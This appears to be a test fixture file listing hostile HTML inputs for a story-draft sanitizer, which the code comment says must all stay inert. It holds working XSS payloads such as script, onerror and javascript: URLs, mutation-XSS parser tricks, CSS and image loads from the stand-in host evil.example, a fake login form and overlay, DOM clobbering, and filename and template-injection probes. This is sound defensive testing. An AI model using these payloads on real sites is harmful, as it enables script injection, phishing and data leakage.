// What an author, a plug-in or a thief may write into a draft. Each must stay inert: no request to another host, no dialog, no
// script, no form, no navigation, nothing over the page around it. EVIL is a host that no story ever talks to.
const EVIL = "http://evil.example";

export const BODIES = [
  `<script>parent.alert(1); fetch("${EVIL}/script")</script>`,
  `<script src="${EVIL}/a.js"></script>`,
  `<img src=x onerror="fetch('${EVIL}/onerror'); alert(1)">`,
  `<svg onload="alert(1)"><image href="${EVIL}/svg.png" xlink:href="${EVIL}/svg2.png"/></svg>`,
  `<svg><style>@import "${EVIL}/svg.css";</style></svg>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/meta">`,
  `<base href="${EVIL}/"><img src="base.png">`,
  `<form action="${EVIL}/form"><input name="password" autofocus onfocus="alert(1)"><button>登录</button></form>`,
  `<p style="position:fixed;inset:0;z-index:99999;background:#fff">请重新登录</p>`,
  `<a href="javascript:alert(1)">点这里</a><a href="JaVaScRiPt&#58;alert(1)">或者这里</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">或者那里</a>`,
  `<p style="background-image:url(${EVIL}/css.png)">背景</p><p style="background:u\\72l('${EVIL}/escaped.png')">转义</p>`,
  `<p style="list-style:url(${EVIL}/list.png);cursor:url(${EVIL}/cursor.cur),auto;content:url(${EVIL}/c.png)">光标</p>`,
  `<p style="border-image:url(${EVIL}/border.png) 3;mask:url(${EVIL}/mask.svg#a);filter:url(${EVIL}/filter.svg#f)">边框</p>`,
  `<iframe src="${EVIL}/frame"></iframe><object data="${EVIL}/object"></object><embed src="${EVIL}/embed">`,
  `<link rel="stylesheet" href="${EVIL}/link.css"><link rel="prefetch" href="${EVIL}/prefetch"><link rel="dns-prefetch" href="${EVIL}">`,
  `<style>@import url("${EVIL}/import.css"); body { background: url(${EVIL}/body.png) }</style>`,
  `<img srcset="${EVIL}/1.png 1x, ${EVIL}/2.png 2x" src="${EVIL}/src.png" data-src="${EVIL}/data.png" lowsrc="${EVIL}/low.png">`,
  `<picture><source srcset="${EVIL}/source.webp"><img src="${EVIL}/picture.png"></picture>`,
  `<video poster="${EVIL}/poster.png" src="${EVIL}/video.mp4" autoplay></video><audio src="${EVIL}/audio.mp3" autoplay></audio>`,
  `<table background="${EVIL}/table.png"><tr><td background="${EVIL}/td.png">格</td></tr></table>`,
  `<noscript><p title="</noscript><img src=${EVIL}/mxss.png onerror=alert(1)>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<template><img src="${EVIL}/template.png"></template><textarea></textarea><img src="${EVIL}/after.png">`,
  `<a href="${EVIL}/ping" ping="${EVIL}/pinged">链接</a>`,
  `<p id="login" name="csrf">撞名</p><img name="querySelector"><form id="documentElement"></form>`,
  "<section>".repeat(39) + "很深" + "</section>".repeat(39),
  `<p>${"长".repeat(20_000)}</p>`,
];

export const TITLES = [
  `<img src=x onerror=alert(1)>`,
  `</title><script>alert(1)</script>`,
  `"><svg onload=alert(1)>`,
  `安全的标题\u202etxt.exe`,
  `{{7*7}} \${7*7} <%= 7*7 %>`,
];
